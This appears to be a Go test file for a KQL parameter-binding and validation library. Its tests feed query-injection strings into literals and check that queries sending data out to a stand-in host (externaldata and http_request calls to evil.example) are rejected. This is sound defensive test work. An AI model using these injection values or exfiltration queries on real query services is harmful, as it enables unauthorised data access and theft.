package kql_test

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/mde-ops/mde-ops/tools/kql"
)

// attacks are values that would break out of a literal that is written carelessly.
func attacks() []string {
	return []string{
		`"`, `'`, `\`, `\\`, `\"`, `\'`, `""`, `''`, `"; DeviceInfo | take 1 //`, `'; DeviceInfo //`, "a\nb", "a\r\nb", "\u0085", "\u2028DeviceInfo", "\u2029",
		"\x00", "\x1b[31m", "\x7f", `\u0022`, `\n`, "```", "~~~", "```\"", `@"`, `h"`, `h@'`, "//", "/*", "*/", ";", "|", "{rows}", "{hash}", "$(x)", "%22", "\t",
		"\ufeff", "\u202e", "\u200b", "\ufffd", "ｅ＂", "émoji 😀", `C:\Windows\`, `\\srv\share\`, `x" or "1" == "1`, `x" | union (DeviceInfo)`, strings.Repeat(`"\`, 900),
	}
}

// bound binds one value and holds the query against what it must be: a let statement of one string, then the query untouched.
func bound(t *testing.T, p kql.Param) (string, bool) {
	t.Helper()
	const query = "DeviceInfo | where DeviceName == value"
	text, err := kql.Bind(query, []kql.Param{p})
	if err != nil {
		return "", false
	}
	head, tail, ok := strings.Cut(text, "\n")
	require.True(t, ok)
	require.Equal(t, query, tail, "the query must come whole and on lines of its own")
	got, err := pieces(head)
	require.NoError(t, err, head)
	for _, r := range head {
		require.True(t, unicode.IsPrint(r), "%q is in the query as it is", r)
	}
	require.Len(t, got, 5, "let, name, =, literal, ;: %s", head)
	for i, want := range []string{"let", "value", "="} {
		require.Equal(t, piece{false, want}, got[i], head)
	}
	require.Equal(t, piece{false, ";"}, got[4], head)
	require.True(t, got[3].literal, head)
	return got[3].text, true
}

func TestNoTextLeavesItsLiteral(t *testing.T) {
	t.Parallel()
	for _, value := range attacks() {
		got, ok := bound(t, kql.Param{Name: "value", Type: kql.String, Value: value})
		require.True(t, ok, "%q", value)
		require.Equal(t, value, got, "the service must read the value that was given")
	}
	for _, value := range []string{"\xff", "a\U000E0041b", strings.Repeat("x", 4001)} {
		_, ok := bound(t, kql.Param{Name: "value", Type: kql.String, Value: value})
		require.False(t, ok, "%q", value)
	}
}

// The other types take little; what they take must stay one literal just the same.
func TestNoValueOfAnotherTypeLeavesItsLiteral(t *testing.T) {
	t.Parallel()
	for _, kind := range []kql.Type{kql.Device, kql.Hash, kql.IP, kql.Domain, kql.Account} {
		for _, value := range attacks() {
			bound(t, kql.Param{Name: "value", Type: kind, Value: value})
			bound(t, kql.Param{Name: "value", Type: kind, Value: "x" + value})
		}
	}
	for _, kind := range []kql.Type{kql.DateTime, kql.Timespan, kql.Int} {
		for _, value := range attacks() {
			_, err := kql.Literal(kind, value)
			require.Error(t, err, "%s %q", kind, value)
			_, err = kql.Literal(kind, "1"+value)
			if strings.TrimSpace(value) != "" {
				require.Error(t, err, "%s %q", kind, value)
			}
		}
	}
}

func FuzzBind(f *testing.F) {
	for _, value := range attacks() {
		for i := range kql.Types() {
			f.Add(i, value)
		}
	}
	f.Fuzz(func(t *testing.T, kind int, value string) {
		types := kql.Types()
		typ := types[((kind%len(types))+len(types))%len(types)]
		switch typ {
		case kql.DateTime, kql.Timespan, kql.Int:
			text, err := kql.Literal(typ, value)
			if err == nil {
				require.Regexp(t, `^(datetime\(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z\)|\d{1,6}[dhms]|-?\d+)$`, text)
			}
		default:
			got, ok := bound(t, kql.Param{Name: "value", Type: typ, Value: value})
			if ok && typ == kql.String {
				require.Equal(t, value, got)
			}
			if ok {
				require.True(t, utf8.ValidString(got))
			}
		}
	})
}

func TestLiteralsAreWrittenAsTheTablesHaveThem(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		kind        kql.Type
		value, want string
	}{
		{kql.Device, strings.Repeat("AB", 20), `"` + strings.Repeat("ab", 20) + `"`},
		{kql.Hash, strings.Repeat("E", 32), `"` + strings.Repeat("e", 32) + `"`},
		{kql.IP, "::ffff:192.0.2.7", `"192.0.2.7"`},
		{kql.IP, "2001:DB8::1", `"2001:db8::1"`},
		{kql.Domain, "Evil.Example.", `"evil.example"`},
		{kql.Account, `CONTOSO\o'brien`, `"o\'brien"`},
		{kql.Account, "jdoe@contoso.com", `"jdoe"`},
		{kql.DateTime, "2026-11-22T09:00:00+01:00", "datetime(2026-11-22T08:00:00Z)"},
		{kql.Timespan, "90m", "90m"},
		{kql.Int, "-5", "-5"},
	} {
		got, err := kql.Literal(c.kind, c.value)
		require.NoError(t, err)
		require.Equal(t, c.want, got)
	}
	for kind, values := range map[kql.Type][]string{
		kql.Device:   {"", "host01", strings.Repeat("a", 39), strings.Repeat("g", 40)},
		kql.Hash:     {"", "abc", strings.Repeat("a", 41)},
		kql.IP:       {"", "1.2.3", "fe80::1%eth0", "1.2.3.4/24"},
		kql.Domain:   {"", "https://evil.example/", "evil..example", "-a.example", "évil.example", strings.Repeat("a.", 127) + "a"},
		kql.Account:  {"", `\`, `a\b\c`, "@x", "a|b", strings.Repeat("a", 300)},
		kql.DateTime: {"", "yesterday", "2026-11-22", "0000-01-01T00:00:00Z", "9999-12-31T23:59:59-01:00"},
		kql.Timespan: {"", "7", "7w", "-1d", "1.5h", "7d)"},
		kql.Int:      {"", "1.5", "0x10", "99999999999999999999"},
		"json":       {"{}"},
	} {
		for _, value := range values {
			_, err := kql.Literal(kind, value)
			require.Error(t, err, "%s %q", kind, value)
		}
	}
}

func TestParametersAreReadAndBound(t *testing.T) {
	t.Parallel()
	p, err := kql.ParseParam("who:account=CONTOSO\\jdoe=x")
	require.NoError(t, err)
	require.Equal(t, kql.Param{Name: "who", Type: kql.Account, Value: `CONTOSO\jdoe=x`}, p)
	for _, bad := range []string{"", "x", "x=1", "x:1", "x:text=1", "X:int=1", "1x:int=1", "where:int=1", "a b:int=1", "a;b:int=1", "é:int=1", strings.Repeat("x", 41) + ":int=1"} {
		_, err := kql.ParseParam(bad)
		require.Error(t, err, bad)
	}
	text, err := kql.Bind("T | where A =~ who and D =~ who_domain and N == n", []kql.Param{
		{Name: "who", Type: kql.Account, Value: `CONTOSO\jdoe`}, {Name: "n", Type: kql.Int, Value: "7"},
	})
	require.NoError(t, err)
	require.Equal(t, `let who = "jdoe"; let who_domain = "CONTOSO"; let n = 7;`+"\nT | where A =~ who and D =~ who_domain and N == n", text)
	for _, c := range []struct {
		query, text string
		params      []kql.Param
	}{
		{" ", "empty", nil},
		{"T | where names == 1", "not used", []kql.Param{{Name: "name", Type: kql.Int, Value: "1"}}},
		{"let  name = 2; T | where X == name", "let statement", []kql.Param{{Name: "name", Type: kql.Int, Value: "1"}}},
		{"T | where X == name", "twice", []kql.Param{{Name: "name", Type: kql.Int, Value: "1"}, {Name: "name", Type: kql.Int, Value: "2"}}},
		{"T | where who_domain == who", "twice", []kql.Param{{Name: "who", Type: kql.Account, Value: "a"}, {Name: "who_domain", Type: kql.Int, Value: "2"}}},
		{"T | where X == Name", "small letter", []kql.Param{{Name: "Name", Type: kql.Int, Value: "1"}}},
		{"T | where X == name", "whole number", []kql.Param{{Name: "name", Type: kql.Int, Value: "1; T"}}},
	} {
		_, err := kql.Bind(c.query, c.params)
		require.ErrorContains(t, err, c.text)
	}
}

func TestQueriesStayInsideTheHuntingTables(t *testing.T) {
	t.Parallel()
	for _, query := range []string{
		`externaldata(x:string)["https://evil.example/?secret"]`, "T | union (ExternalData(x:string)['https://e'])", "let f = externaldata\n(x:string)",
		`evaluate http_request("https://evil.example")`, `adx("https://c.kusto.windows.net/db").T`, "cluster('c').database('d').T", `external_table("t")`,
	} {
		require.Error(t, kql.CheckInside(query), query)
	}
	for _, query := range []string{"DeviceInfo | evaluate autocluster()", "DeviceInfo | where clusters == 1", "DeviceInfo | invoke FileProfile()"} {
		require.NoError(t, kql.CheckInside(query), query)
	}
}
